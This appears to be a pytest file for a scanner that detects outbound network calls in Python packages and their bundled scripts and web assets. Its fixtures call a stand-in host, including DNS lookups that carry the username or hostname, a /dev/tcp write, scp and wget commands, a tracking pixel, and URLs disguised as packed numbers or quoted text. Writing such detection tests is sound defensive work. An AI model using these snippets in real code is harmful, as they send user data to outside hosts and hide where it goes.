"""Every way in which code can reach a host is told, whatever its names say: no word here speaks of telemetry or of updates."""
# ruff: noqa: E501 - one way a line

import pytest
from scan_lab import scan

HOST = "zorblax.xyz"


def hosts(files: dict[str, str]) -> set[str]:
    return {finding.host for finding in scan(files).findings if finding.default_on}


CODE = {
    "a constructor under another name": f"from http.client import HTTPSConnection as K\nK('{HOST}').request('GET', '/v')\n",
    "a function bound to a name": f"import urllib.request\nf = urllib.request.urlopen\nf('https://{HOST}/v')\n",
    "a stream of asyncio": f"import asyncio\nasync def f():\n    await asyncio.open_connection('{HOST}', 443)\n",
    "a connection of a loop": f"import asyncio\nasync def f(loop):\n    await loop.create_connection(asyncio.Protocol, '{HOST}', 443)\n",
    "a socket": f"import socket\ns = socket.socket()\ns.connect(('{HOST}', 443))\n",
    "a question to the name server": f"import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.{HOST}')\n",
    "a resolver": f"import dns.resolver, os\ndns.resolver.resolve(os.getlogin() + '.{HOST}', 'TXT')\n",
    "a pool": f"import urllib3\nurllib3.HTTPSConnectionPool('{HOST}', 443).request('GET', '/v')\n",
    "a mail": f"import smtplib\nsmtplib.SMTP_SSL('{HOST}').sendmail('a', 'b', 'c')\n",
    "an old protocol": f"from ftplib import FTP\nFTP('{HOST}').login()\n",
    "a mailbox": f"import imaplib\nimaplib.IMAP4_SSL('{HOST}')\n",
    "a channel": f"import grpc\nchannel = grpc.insecure_channel('{HOST}:443')\n",
    "a socket of the web": f"import websocket\nwebsocket.WebSocketApp('wss://{HOST}/v').run_forever()\n",
    "a handler of records": f"import logging.handlers\nh = logging.handlers.SysLogHandler(address=('{HOST}', 514))\n",
    "a connection between processes": f"from multiprocessing.connection import Client\nClient(('{HOST}', 6000)).send({{}})\n",
    "a cache": f"import redis\nredis.Redis(host='{HOST}').set('a', 'b')\n",
    "a database": f"import psycopg\npsycopg.connect('postgresql://u:p@{HOST}:5432/db')\n",
    "a queue": f"import zmq\nzmq.Context().socket(zmq.PUSH).connect('tcp://{HOST}:5555')\n",
    "a table from an address": f"import pandas as pd\npd.read_csv('https://{HOST}/v.csv')\n",
    "a program with an address": f"import subprocess\nsubprocess.run(['curl', '-s', 'https://{HOST}/v'])\n",
    "a line for a shell": f"import os\nos.system('wget -q https://{HOST}/v')\n",
    "a program with a bare host": f"import os\nos.system('curl -s {HOST}/v')\n",
    "a name server asked by a program": f"import os\nos.system('nslookup $(hostname).{HOST}')\n",
    "a device of the shell": f"import subprocess\nsubprocess.run(['bash', '-c', 'echo x > /dev/tcp/{HOST}/443'])\n",
    "a copy to another machine": f"import os\nos.system('scp f u@{HOST}:/v')\n",
    "the browser": f"import os, webbrowser\nwebbrowser.open('https://{HOST}/v?u=' + os.getlogin())\n",
}
_URL = f"https://{HOST}/v"
PUT_TOGETHER = {
    "parts of a URL": f"from urllib.parse import urlunparse\nrequests.post(urlunparse(('https', '{HOST}', '/v', '', '', '')))",
    "keywords of a URL": f"from yarl import URL\nrequests.post(str(URL.build(scheme='https', host='{HOST}', path='/v')))",
    "a template": f"import string\nT = string.Template('https://$host/v')\nrequests.post(T.substitute(host='{HOST}'))",
    "a format with a mapping": f"requests.post('https://{{h}}/v'.format_map({{'h': '{HOST}'}}))",
    "what was quoted": f"from urllib.parse import unquote\nrequests.post(unquote('{_URL.replace('.', '%2E')}'))",
    "a document": f'import json\nC = json.loads(\'{{"a": {{"u": "{_URL}"}}}}\')\nrequests.post(C[\'u\'])',
    "a piece of a text": f"a, b = 'https|{HOST}'.split('|')\nrequests.post(a + '://' + b)",
    "a piece by its number": f"requests.post('https://' + 'x@{HOST}'.partition('@')[2])",
    "a member of an enumeration": f"import enum\nclass E(enum.Enum):\n    A = '{_URL}'\nrequests.post(E.A.value)",
    "a field of a tuple": f"import collections\nT = collections.namedtuple('T', 'u')\nrequests.post(T(u='{_URL}').u)",
    "a field of an object": f"class C:\n    def __init__(self, u): self.u = u\nc = C(u='{_URL}')\nrequests.post(c.u)",
    "an attribute set by name": f"class C: pass\nsetattr(C, 'u', '{_URL}')\nrequests.post(C.u)",
    "the environment, set before": f"import os\nos.environ['ACME_U'] = '{_URL}'\nrequests.post(os.environ['ACME_U'])",
    "a context variable": f"import contextvars\nV = contextvars.ContextVar('v', default='{_URL}')\nrequests.post(V.get())",
    "a generator": f"def g():\n    yield '{_URL}'\nfor u in g():\n    requests.post(u)",
    "a pattern": f"match {{'u': '{_URL}'}}:\n    case {{'u': x}}:\n        requests.post(x)",
    "keywords from a mapping": f"K = {{'url': '{_URL}'}}\nrequests.post(**K)",
    "pairs of a mapping": f"for name, url in {{'a': '{_URL}'}}.items():\n    requests.post(url)",
    "pairs of a list": f"for name, url in [('a', '{_URL}')]:\n    requests.post(url)",
    "a value of a mapping": f"D = {{'a': '{_URL}'}}\nrequests.post(D.get('a'))",
    "a tuple that a function gives back": f"def f():\n    return 'a', '{_URL}'\nname, url = f()\nrequests.post(url)",
    "a number": "import ipaddress, socket\nsocket.socket().connect((str(ipaddress.ip_address(0x5DB8D822)), 443))",
    "a packed number": "import socket, struct\nsocket.socket().connect((socket.inet_ntoa(struct.pack('!I', 0x5DB8D822)), 443))",
    "a function under two names": f"from urllib.request import urlopen as _\nf = _\nf('{_URL}')",
    "a finalizer": f"import weakref\nclass A: pass\na = A()\nweakref.finalize(a, requests.post, '{_URL}')",
    "a pool of threads": f"def go(loop, pool):\n    loop.run_in_executor(pool, requests.post, '{_URL}')",
    "a certificate": f"import ssl\nssl.get_server_certificate(('{HOST}', 443))",
    "a transfer by curl": f"import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, '{_URL}')",
    "a counter": f"import statsd\nstatsd.StatsClient('{HOST}', 8125)",
    "a packet to a host": f"import subprocess\nsubprocess.run(['ping', '-c1', '{HOST}'])",
    "a repository": f"import subprocess\nsubprocess.run(['git', 'ls-remote', '{_URL}.git'])",
    "another language": f"import subprocess\nsubprocess.run(['node', '-e', \"fetch('{_URL}')\"])",
}
FILES = {
    "a settings file": {
        "acme/__init__.py": "import json, os, urllib.request\nc = json.load(open(os.path.join(os.path.dirname(__file__), 'c.json')))\nurllib.request.urlopen(c['u'])\n",
        "acme/c.json": f'{{"u": "https://{HOST}/v"}}',
    },
    "a module that its package finds in its folder": {
        "acme/__init__.py": "import glob, importlib\nfor path in glob.glob('acme/*.py'):\n    importlib.import_module('acme.' + path[5:-3])\n",
        "acme/plug.py": f"import urllib.request\nurllib.request.urlopen('https://{HOST}/v')\n",
    },
    "a script of a page": {
        "acme/__init__.py": "",
        "acme/static/a.js": f"fetch('https://{HOST}/v', {{method: 'POST'}})",
    },
    "PowerShell": {"acme/__init__.py": "", "acme/a.ps1": f"Invoke-WebRequest -Uri https://{HOST}/v -OutFile a"},
    "Perl": {"acme/__init__.py": "", "acme/a.pl": f"use LWP::Simple;\nmy $v = get('https://{HOST}/v');"},
    "Ruby": {"acme/__init__.py": "", "acme/a.rb": f"require 'net/http'\nNet::HTTP.get(URI('https://{HOST}/v'))"},
    "PHP": {"acme/__init__.py": "", "acme/a.php": f"<?php $c = curl_init('https://{HOST}/v');"},
    "R": {"acme/__init__.py": "", "acme/a.R": f'download.file("https://{HOST}/v", "a")'},
    "a picture that reports": {
        "acme/__init__.py": "",
        "acme/static/a.js": f"new Image().src = 'https://{HOST}/p.gif?u=' + id",
    },
    "a socket of a page": {"acme/__init__.py": "", "acme/static/a.js": f"new WebSocket('wss://{HOST}/v')"},
    "a module of a page": {"acme/__init__.py": "", "acme/static/a.js": f"import a from 'https://{HOST}/a'"},
    "a worker of a page": {"acme/__init__.py": "", "acme/static/a.js": f"new Worker('https://{HOST}/a')"},
    "a picture of a page": {"acme/__init__.py": "", "acme/page.html": f"<img alt='x' src='https://{HOST}/a.png'>"},
    "a frame of a page": {"acme/__init__.py": "", "acme/page.html": f"<iframe src='https://{HOST}/a'></iframe>"},
    "a form of a page": {
        "acme/__init__.py": "",
        "acme/page.html": f"<form method=post action='https://{HOST}/a'></form>",
    },
    "a picture of a style": {"acme/__init__.py": "", "acme/a.css": f"body {{ background: url(https://{HOST}/a.png) }}"},
    "a script of the shell": {
        "acme/__init__.py": "",
        "acme-1.data/scripts/acme": f"#!/bin/sh\ncurl -s https://{HOST}/v\n",
    },
    "a program's own guard": {
        "acme/__init__.py": "",
        "acme/__main__.py": f"import urllib.request\nif __name__ == '__main__':\n    urllib.request.urlopen('https://{HOST}/v')\n",
    },
}


@pytest.mark.parametrize("code", CODE.values(), ids=CODE)
def test_a_call_is_told_with_its_host(code: str) -> None:
    assert any(HOST in host for host in hosts({"acme/__init__.py": code}))


@pytest.mark.parametrize("code", PUT_TOGETHER.values(), ids=PUT_TOGETHER)
def test_an_address_is_followed_to_the_call(code: str) -> None:
    imports = "import requests\n" if "requests." in code else ""
    found = hosts({"acme/__init__.py": f"{imports}{code}\n"})
    assert found & {HOST, "93.184.216.34"}


@pytest.mark.parametrize(
    "value", ["dict(D)", "D.get('a', D)", "D['a'].split(D)[0]", "[D][0]", "D.u", "(lambda: D)()", "f(D)"]
)
def test_a_name_that_is_made_of_itself_ends(value: str) -> None:
    code = f"import requests\ndef f(x):\n    return f(x)\nD = {value}\nrequests.post(D['u'])\nrequests.post(D.get('u').value)\nfor a, b in D.items(): requests.get(b)\n"
    assert scan({"acme/__init__.py": code}).undecided == ()


def test_the_key_of_a_reporter_in_a_script_is_telemetry() -> None:
    script = "Sentry.init({dsn: 'https://0123456789abcdef@o1.ingest.sentry.io/2'})"
    found = scan({"acme/__init__.py": "", "acme/static/a.js": script}).findings
    assert [(item.category, item.host) for item in found] == [("telemetry", "o1.ingest.sentry.io")]


def test_a_link_that_a_person_follows_loads_nothing() -> None:
    assert hosts({"acme/__init__.py": "", "acme/page.html": f"<a href='https://{HOST}/a.png'>more</a>"}) == set()


def test_words_that_a_program_only_writes_are_no_destination() -> None:
    assert hosts({"acme/__init__.py": f"import subprocess\nsubprocess.run(['echo', 'see {_URL}'])\n"}) == set()


@pytest.mark.parametrize("files", FILES.values(), ids=FILES)
def test_what_is_no_python_or_runs_as_a_program_is_told_with_its_host(files: dict[str, str]) -> None:
    assert HOST in hosts(files)


@pytest.mark.parametrize(
    "host",
    ["docs.vendor.xyz", "my-intake.xyz", "schemas.vendor.xyz", "10.vendor.xyz", "93.184.216.34", "vendor.museum"],
)
def test_what_a_client_is_handed_is_no_prose(host: str) -> None:
    assert host in hosts(
        {"acme/__init__.py": f"import http.client\nhttp.client.HTTPSConnection('{host}').request('GET', '/')\n"}
    )
    assert host in hosts({"acme/__init__.py": f"import urllib.request\nurllib.request.urlopen('https://{host}/v')\n"})


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "10.1.2.3", "192.168.1.1", "example.com", "db.internal"])
def test_this_machine_and_private_networks_are_no_destination(host: str) -> None:
    assert hosts({"acme/__init__.py": f"import urllib.request\nurllib.request.urlopen('http://{host}/v')\n"}) == set()
    assert hosts({"acme/__init__.py": f"import socket\nsocket.create_connection(('{host}', 80))\n"}) == set()


def test_a_program_that_gets_its_host_from_its_user_is_no_finding() -> None:
    assert (
        hosts({"acme/__init__.py": "import subprocess\ndef ask(host):\n    subprocess.run(['ssh', host, 'uptime'])\n"})
        == set()
    )
